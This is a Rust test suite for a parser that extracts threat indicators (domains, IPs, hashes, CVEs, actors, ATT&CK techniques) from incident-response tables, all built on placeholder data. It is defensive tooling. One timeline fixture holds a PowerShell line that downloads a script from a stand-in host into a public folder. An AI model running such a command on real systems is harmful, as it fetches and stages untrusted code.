use crate::{Context, Item, Limits, Observed, Reading, Reason, read_item};

fn read(text: &str) -> Reading {
    let mut items = read_item("t", text.as_bytes(), &Context::default());
    assert_eq!(items[0].format, Some("table"), "{text}");
    items.remove(0).reading
}

fn format(text: &str) -> Option<&'static str> {
    read_item("t", text.as_bytes(), &Context::default())[0].format
}

fn found(reading: &Reading) -> Vec<String> {
    reading.observations().iter().map(|o| format!("{} {}", o.path, o.observed)).collect()
}

#[test]
fn a_header_says_what_its_columns_hold() {
    let text = "MD5,,C2,Malware Family,Actor,CVE,First seen,Note\r\n\
        0123456789ABCDEF0123456789ABCDEF,,c2.example.com,GreyHeron,Blue Crane,CVE-2014-4114,\"November 7th, 2014\",none\r\n\
        N/A,,203.0.113.7:443,-,n/a,,2-Mar-2016,\r\n";
    let reading = read(text);
    assert_eq!(
        found(&reading),
        [
            "row[1].MD5 0123456789abcdef0123456789abcdef",
            "row[1].C2 c2.example.com",
            "row[1].Malware Family GreyHeron",
            "row[1].Actor Blue Crane",
            "row[1].CVE CVE-2014-4114",
            "row[2].C2 203.0.113.7",
        ]
    );
    let when: Vec<_> = reading.observations().iter().map(|o| o.when.unwrap().to_string()).collect();
    assert_eq!((when[0].as_str(), when[5].as_str()), ("2014-11-07", "2016-03-02"));
    assert_eq!(reading.records.len(), 2);
    assert!(matches!(reading.observations()[3].observed, Observed::ActorClaim(_)));
}

#[test]
fn rows_that_name_their_type_are_read_by_it() {
    let text = "uuid,event_id,category,type,value,comment,to_ids,date\n\
        u1,4,Network activity,domain,\"a.example.com\",\"\",1,20151016\n\
        u2,4,Payload type,text,\"GreyHeron\",\"\",0,20151016\n\
        u3,4,Attribution,threat-actor,Blue Crane,,0,20151016\n\
        u4,4,Payload delivery,filename|md5,\"a \"\"b\"\".exe|0123456789abcdef0123456789abcdef\",,1,20151016\n\
        u5,4,External analysis,link,https://vendor.example.net/report,,0,20151016\n\
        u6,4,Payload delivery,email-dst,victim@example.net,,0,20151016\n\
        u7,4,Payload delivery,vulnerability,CVE-2014-4114,,0,20151016\n\
        u8,4,Artifacts dropped,regkey,HKCU\\Software\\Heron,,0,20151016\n\
        u9,4,Network activity,ip-dst|port,203.0.113.7|443,,1,20151016\n\
        u10,4,Network activity,url,example.com/gate,,1,20151016\n\
        u11,4,Network activity,domain,not a domain,,1,20151016\n";
    let reading = read(text);
    assert_eq!(
        found(&reading),
        [
            "row[1].value a.example.com",
            "row[2].value GreyHeron",
            "row[3].value Blue Crane",
            "row[4].value a \"b\".exe",
            "row[4].value 0123456789abcdef0123456789abcdef",
            "row[7].value CVE-2014-4114",
            "row[8].value HKCU\\Software\\Heron",
            "row[9].value 203.0.113.7",
            "row[10].value http://example.com/gate",
            "row[10].value example.com",
        ]
    );
    assert_eq!(reading.records[4].id.as_deref(), Some("u5"));
    assert_eq!(reading.losses()[0].what, "`not a domain` in row[11].value is not what its column says");
    for observation in reading.observations() {
        let written = text[observation.span.start as usize..observation.span.end as usize].replace("\"\"", "\"");
        let value = observation.observed.to_string();
        // The host of a URL has the URL's place.
        assert!(value.ends_with(&written) || written.starts_with(&value), "{written}");
    }
}

#[test]
fn a_table_without_a_header_is_read_by_the_form_of_its_cells() {
    let text = "a.example.com;203.0.113.7;loader.exe\nb.example.com;203.0.113.8;\n";
    assert_eq!(
        found(&read(text)),
        [
            "row[1][1] a.example.com",
            "row[1][2] 203.0.113.7",
            "row[1][3] loader.exe",
            "row[2][1] b.example.com",
            "row[2][2] 203.0.113.8"
        ]
    );
}

#[test]
fn files_are_named_and_words_about_files_are_not_names() {
    let text = "File\tMD5\nheron.exe [stage 1]\t0123456789abcdef0123456789abcdef\nUnpacked heron.exe\t\nGreyHeron payload\t\nC:\\a\\b.dll\t\n";
    let reading = read(text);
    let names: Vec<_> = found(&reading).into_iter().filter(|line| line.contains(".File ")).collect();
    assert!(
        names.contains(&"row[1].File heron.exe".to_owned()) && names.contains(&"row[4].File C:\\a\\b.dll".to_owned())
    );
    assert!(!names.iter().any(|name| name.contains("Unpacked") || name.contains("payload")), "{names:?}");
}

#[test]
fn a_cell_with_several_values_gives_each_where_it_stands() {
    let text = "name,ip\nx,\"203.0.113.7, 203.0.113[.]8\"\ny,203.0.113.9\n";
    let reading = read(text);
    let written: Vec<_> =
        reading.observations().iter().map(|o| &text[o.span.start as usize..o.span.end as usize]).collect();
    assert_eq!(written, ["203.0.113.7", "203.0.113[.]8", "203.0.113.9"]);
}

#[test]
fn a_header_may_stand_in_the_last_comment() {
    let text = "# a feed\n# \"first_seen_utc\",\"dst_ip\",\"malware\"\n\"2020-01-02 03:04:05\",\"203.0.113.7\",\"GreyHeron\"\n\"2020-01-03 03:04:05\",\"203.0.113.8\",\"GreyHeron\"\n";
    let reading = read(text);
    assert_eq!(found(&reading)[1], "row[1].malware GreyHeron");
    assert_eq!(reading.observations()[0].when.unwrap().to_string(), "2020-01-02");
}

#[test]
fn prose_code_markup_and_single_columns_are_no_tables() {
    for text in [
        "We saw example.com, and then nothing.\nLater, example.org came up, too, we think.\n",
        "{\"a\": 1,\n\"b\": 2}",
        "|===\n|a|b\n|example.com|203.0.113.7\n",
        "example.com\nexample.org\n",
        "int main(a, b) {\n  f(a, b);\n}\n",
        "rule x {\n  strings: $a = \"x\"\n}\n",
    ] {
        assert_ne!(format(text), Some("table"), "{text}");
    }
}

#[test]
fn a_table_cut_at_any_byte_is_read_as_far_as_it_goes() {
    let text = "type,value\nmd5,\"0123456789abcdef0123456789abcdef\"\ndomain,\"é.example.com\"\n";
    for cut in 0..text.len() {
        let items: Vec<Item> = read_item("t", &text.as_bytes()[..cut], &Context::default());
        for observation in items[0].reading.observations() {
            assert!(observation.span.end as usize <= cut * 2);
        }
    }
}

#[test]
fn a_cell_with_several_hashes_gives_each() {
    let (md5, sha1) = ("ae7be26cdaa742ca148068d5ac90eaca", "ae23b94ccaf714337e4ce5ba99ef3dc257e300df");
    for cell in [
        format!("\"{md5},{sha1}\""),
        format!("\"MD5: {md5}\nSHA1: {sha1}\""),
        format!("{md5} / {sha1}"),
        format!("md5={md5}|sha1={sha1}"),
    ] {
        let reading = read(&format!("value,entity_type,description\n{cell},file,loader\n203.0.113.7,ipaddress,C2\n"));
        let values: Vec<_> = reading.observations().iter().map(|o| o.observed.to_string()).collect();
        assert_eq!(values, [md5, sha1, "203.0.113.7"], "{cell}");
        assert_eq!(reading.losses(), []);
    }
}

#[test]
fn a_column_far_to_the_right_is_read_and_one_past_the_limit_is_a_loss() {
    let names: String = (1..=5_000).map(|n| format!("field {n},")).collect();
    let row = format!("{}far.example.com,{}last.example.com", ",".repeat(4_101), ",".repeat(898));
    let text = format!("{names}Domain\n{row}\n{}other.example.com\n", ",".repeat(5_000));
    assert_eq!(read(&text).observations().len(), 3);
    let limits = Limits::DEFAULT.with("columns", 4_200).unwrap();
    let item = read_item("t", text.as_bytes(), &Context { limits: &limits, ..Context::default() }).remove(0);
    assert_eq!(item.reading.observations().len(), 1);
    assert_eq!(item.reading.tally().lost, 2);
    assert!(item.reading.losses()[0].help.as_deref().unwrap().contains("--limit columns"));
}

#[test]
fn rows_may_name_programs_techniques_and_actors() {
    let text = "Type,Value\nSoftware,Mimikatz (S0002)\nMalware family,GreyHeron\nTechnique,Masquerading - T1036\n\
        attack-pattern,T1059.001: PowerShell\nThreat Actor,Blue Crane\ncampaign,Operation Slate\nCVE,CVE-2014-4114\n\
        technique,\"T1027, T1105\"\ntactic,TA0001\n";
    let reading = read(text);
    let values: Vec<_> =
        reading.observations().iter().map(|o| format!("{} {}", o.observed.kind(), o.observed)).collect();
    assert_eq!(
        values,
        [
            "software Mimikatz",
            "software GreyHeron",
            "technique Masquerading",
            "technique PowerShell",
            "actor claim Blue Crane",
            "actor claim Operation Slate",
            "vulnerability CVE-2014-4114",
            "technique T1027",
            "technique T1105"
        ]
    );
    assert!(
        matches!(&reading.observations()[0].observed, Observed::Software(m) if m.id.unwrap().to_string() == "S0002")
    );
    assert!(reading.values_set_aside().iter().any(|aside| aside.what == "TA0001"));
}

#[test]
fn rows_that_the_table_calls_harmless_are_set_aside_by_name() {
    for (header, bad, good) in [
        ("verdict", "malicious", "benign"),
        ("Classification", "suspicious", "False Positive"),
        ("malicious", "yes", "no"),
        ("is_malicious", "TRUE", "FALSE"),
        ("false_positive", "0", "1"),
        ("whitelisted", "no", "yes"),
        ("Confidence", "80", "0"),
        ("Analyst thoughts", "looks bad", "not malicious"),
        ("notes", "C2 server", "confirmed false positive (CDN)"),
    ] {
        let text = format!(
            "indicator,type,{header}\nbad.example.com,domain,{bad}\ngood.example.com,domain,{good}\n203.0.113.7,ip,{bad}\n"
        );
        let reading = read(&text);
        let values: Vec<_> = reading.observations().iter().map(|o| o.observed.to_string()).collect();
        assert_eq!(values, ["bad.example.com", "203.0.113.7"], "{header}");
        let aside: Vec<_> =
            reading.values_set_aside().iter().filter(|a| a.reason == Reason::CalledBenign).map(|a| &*a.what).collect();
        assert!(aside.contains(&"good.example.com"), "{header}: {aside:?}");
    }
}

#[test]
fn a_timeline_is_read_by_its_messages_and_its_hosts_are_the_victims_own() {
    let text = "datetime,timestamp_desc,message,hostname\n\
        2024-03-05T10:00:00Z,Process created,\"powershell.exe -c iwr http://one.example.com/a.ps1 -o C:\\Users\\Public\\a.ps1\",WS01\n\
        2024-03-05T10:00:05Z,Network,\"WS01 connected to 203.0.113.218:443 (two.example.com)\",ws01.hospital.example\n";
    let reading = read(text);
    let values: Vec<_> = reading.observations().iter().map(|o| o.observed.to_string()).collect();
    for value in ["http://one.example.com/a.ps1", "203.0.113.218", "two.example.com"] {
        assert!(values.contains(&value.to_owned()), "{value}: {values:?}");
    }
    let own: Vec<_> = reading.values_set_aside().iter().filter(|a| a.reason == Reason::Own).map(|a| &*a.what).collect();
    assert_eq!(own, ["WS01", "ws01.hospital.example"]);
}

#[test]
fn a_title_may_stand_above_the_header_and_other_columns_may_follow() {
    let text = "Indicators of an intrusion,,\n,,\nseen by responders at 198.51.100.9,,\nDomain,IP,Note\na.example.com,203.0.113.7,x\n\
        MD5,File,Note\n0123456789abcdef0123456789abcdef,heron.exe,y\n";
    assert_eq!(
        found(&read(text)),
        [
            "row[0] 198.51.100.9",
            "row[1].Domain a.example.com",
            "row[1].IP 203.0.113.7",
            "row[2].MD5 0123456789abcdef0123456789abcdef",
            "row[2].File heron.exe"
        ]
    );
}

#[test]
fn tables_between_bars_are_tables() {
    for text in [
        "# Findings\n\n| Indicator | Type | Verdict |\n|---|:-:|---|\n| `a.example.com` | domain | bad |\n| b.example.com | domain | benign |\n| 203.0.113.7 | ip | bad |\n",
        "||Indicator||Type||Verdict||\n|a.example.com|domain|bad|\n|b.example.com|domain|benign|\n|203.0.113.7|ip|bad|\n",
    ] {
        let reading = read(text);
        let values: Vec<_> = reading.observations().iter().map(|o| o.observed.to_string()).collect();
        assert_eq!(values, ["a.example.com", "203.0.113.7"], "{text}");
        for o in reading.observations() {
            assert_eq!(&text[o.span.start as usize..o.span.end as usize], o.observed.to_string());
        }
    }
}

#[test]
fn a_row_in_a_comment_is_switched_off_and_other_comments_name_no_traces() {
    let text = "indicator,type\na.example.com,domain\n#b.example.com,domain\n# from https://vendor.example.net/report\nc.example.com,domain\n";
    let reading = read(text);
    let values: Vec<_> = reading.observations().iter().map(|o| o.observed.to_string()).collect();
    assert_eq!(values, ["a.example.com", "c.example.com"]);
    let disabled: Vec<_> =
        reading.values_set_aside().iter().filter(|a| a.reason == Reason::Disabled).map(|a| &*a.what).collect();
    assert_eq!(disabled, ["b.example.com"]);
}

#[test]
fn a_file_may_tell_excel_its_separator() {
    let text = "sep=;\r\nDomain;Note\r\na.example.com;one, two\r\nb.example.com;three, four\r\n";
    assert_eq!(found(&read(text)), ["row[1].Domain a.example.com", "row[2].Domain b.example.com"]);
}

#[test]
fn what_a_broken_quote_leaves_of_a_row_is_read_by_its_form() {
    let (md5, sha1) = ("ae7be26cdaa742ca148068d5ac90eaca", "ae23b94ccaf714337e4ce5ba99ef3dc257e300df");
    let reading = read(&format!("Port,Value\n443,a.example.com\n443,\"{md5}\n{sha1}\n443,b.example.com\n"));
    let values: Vec<_> = reading.observations().iter().map(|o| o.observed.to_string()).collect();
    assert_eq!(values, ["a.example.com", md5, sha1, "b.example.com"]);
}

#[test]
fn a_value_in_a_column_of_words_is_named() {
    let reading = read("Port,Value\n443,a.example.com\nb.example.com,c.example.com\n");
    assert!(reading.values_set_aside().iter().any(|aside| aside.what == "b.example.com"));
}

#[test]
fn every_cell_is_accounted_for() {
    let text = "id,Domain,Target,Reference,Size,Port\n1,a.example.com,victim@example.net,https://vendor.example.net/r,12 KB,443\n2,not/known,WS-7,page 4,,80\n";
    let reading = read(text);
    let tally = reading.tally();
    assert_eq!(
        (tally.read, tally.set_aside, tally.lost),
        (1, 9, 1),
        "{:?} {:?}",
        reading.values_set_aside(),
        reading.losses()
    );
    let described: Vec<_> =
        reading.values_set_aside().iter().filter(|a| a.count > 1).map(|a| (&*a.what, a.count)).collect();
    assert_eq!(described, [("column `Port`", 2), ("column `id`", 2)]);
}

#[test]
fn real_tables_are_read() {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data/evidence");
    let mut paths = Vec::new();
    for folder in ["citizenlab", "amnesty"] {
        let Ok(folders) = std::fs::read_dir(format!("{root}/{folder}")) else {
            return println!("skipped: {root} is absent");
        };
        for folder in folders.flatten().filter(|entry| entry.path().is_dir()) {
            let files = std::fs::read_dir(folder.path()).unwrap().flatten().map(|entry| entry.path());
            paths.extend(files.filter(|path| path.extension().is_some_and(|extension| extension == "csv")));
        }
    }
    paths.sort();
    for path in paths {
        let bytes = std::fs::read(&path).unwrap();
        let items = read_item("t", &bytes, &Context::default());
        let reading = &items[0].reading;
        println!(
            "{}: {:?}, {} records, {} observations, {} losses",
            path.strip_prefix(root).unwrap().display(),
            items[0].format,
            reading.records.len(),
            reading.observations().len(),
            reading.losses().len()
        );
        for loss in reading.losses().iter().take(4) {
            println!("    {}", loss.what);
        }
        let single = path.ends_with("assorted.csv");
        assert_eq!(items[0].format, Some(if single { "indicator list" } else { "table" }));
        assert!(reading.observations().len() * 10 >= reading.records.len() * 7);
        for observation in reading.observations() {
            let written =
                String::from_utf8_lossy(&bytes[observation.span.start as usize..observation.span.end as usize])
                    .to_lowercase();
            let value = observation.observed.to_string().to_lowercase();
            assert!(
                value.contains(written.trim_start_matches("hxxp"))
                    || crate::observable::refang(&written).contains(value.trim_end_matches('/'))
                    || written.ends_with(value.rsplit('/').next().unwrap()),
                "{value}: {written}"
            );
        }
    }
}

#[test]
fn a_table_within_a_document_with_sections_is_a_part_of_it() {
    let asciidoc = "= Heron IoCs\n\n== Samples\n\n|===\n| SHA-1 | Name\n| 78ba1152ef3883e63f10c3a85cbf00f2bb305a6a | a.jpg\n\
        | 773a82343367b3d09965f6f09cc9887e7f8f01bf | b.jpg\n|===\n";
    let markdown = "## Samples\n\n| MD5 | Name |\n|---|---|\n| 0123456789abcdef0123456789abcdef | a.exe |\n\nIt calls c2[.]example[.]com.\n";
    for text in [asciidoc, markdown] {
        let items = read_item("t", text.as_bytes(), &Context::default());
        assert_ne!(items[0].format, Some("table"), "{text}");
        assert!(items[0].reading.losses().is_empty(), "{:?}", items[0].reading.losses());
    }
    let commented = "# Heron: indicators\nmd5,name\n0123456789abcdef0123456789abcdef,a.exe\n";
    assert_eq!(format(commented), Some("table"));
}

#[test]
fn users_and_their_groups_are_no_actors() {
    let claims = |text: &str| {
        let reading = read(text);
        let claimed = reading.observations().iter().filter(|one| matches!(one.observed, Observed::ActorClaim(_)));
        claimed.map(|one| one.observed.to_string()).collect::<Vec<_>>()
    };
    let rows = "jdoe,Domain Admins,91.3.4.5\nj.doe@example.org,Users,91.3.4.6\nmeier,Sigma,91.3.4.7\n";
    assert_eq!(claims(&format!("actor,group,ip\n{rows}")), Vec::<String>::new());
    let named = "APT99,Storm-0001,91.3.4.5\nExample Bear,UNC1234,91.3.4.6\n";
    assert_eq!(claims(&format!("actor,group,ip\n{named}")), ["APT99", "Storm-0001", "Example Bear", "UNC1234"]);
    assert_eq!(claims("threat actor,ip\nSomebody New,91.3.4.5\n"), ["Somebody New"]);
}

#[test]
fn the_label_of_a_column_says_which_hash_it_holds() {
    let (sha1, md5) = ("7e2561eb67a6ead09f727d98b71c01f18985bbb9", "5684139345b0c2146f1d149ec16d49bc");
    let reading = read(&format!(
        "Path,PESHA-1,IMP,Launch String,message-id\nC:\\x\\heron.exe,{sha1},{md5},C:\\x\\heron.exe -h 203.0.113.92,<1@heron77.example.com>\n"
    ));
    let kinds: Vec<&str> = reading
        .observations()
        .iter()
        .filter_map(|o| match &o.observed {
            Observed::Observable(trace) => Some(trace.kind().stix_path()),
            _ => None,
        })
        .collect();
    assert_eq!(
        kinds,
        [
            "directory:path",
            "file:hashes.AUTHENTIHASH",
            "file:extensions.'windows-pebinary-ext'.imphash",
            "directory:path",
            "ipv4-addr:value"
        ]
    );
    assert_eq!(reading.observations()[3].observed.to_string(), "C:\\x\\heron.exe");
}
